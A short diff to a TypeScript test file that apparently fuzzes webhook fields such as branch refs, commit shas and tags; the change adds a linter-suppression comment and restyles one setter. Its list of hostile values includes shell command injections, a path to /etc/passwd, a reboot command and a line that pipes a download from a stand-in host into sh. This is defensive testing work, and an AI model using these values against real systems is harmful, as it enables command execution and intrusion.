@@ -22,6 +22,7 @@ export interface HostileCase extends Case {
 /** Values an attacker puts where a branch, sha, tag or project goes: each breaks its grammar. */
 export const METACHARACTERS = [
   ';id', '$(id)', '`id`', '\n', '\r\n', '../', '../../etc/passwd', 'a/../b', '$(curl -s evil.example|sh)', '`reboot`',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile value, a shell expansion on purpose
   '&&id', '|id', '>x', '${IFS}', '\u0000', '\u202e', "' OR 1=1", '{{7*7}}', ' ', '%0a', 'A'.repeat(300), '\nX-Injected: 1',
 ];
 
@@ -44,7 +45,7 @@ function targets(): Target[] {
     ] },
     { base: push!, points: [
       { name: 'ref', set: (b, v) => (b.ref = `refs/heads/${v}`) },
-      { name: 'after', set: (b, v) => ((b.after = v), (b.checkout_sha = v)) },
+      { name: 'after', set: (b, v) => { b.after = v; b.checkout_sha = v; } },
     ] },
     { base: tag, points: [{ name: 'git tag', set: (b, v) => (b.ref = `refs/tags/${v}`) }] },
     { base: pipeline, points: [
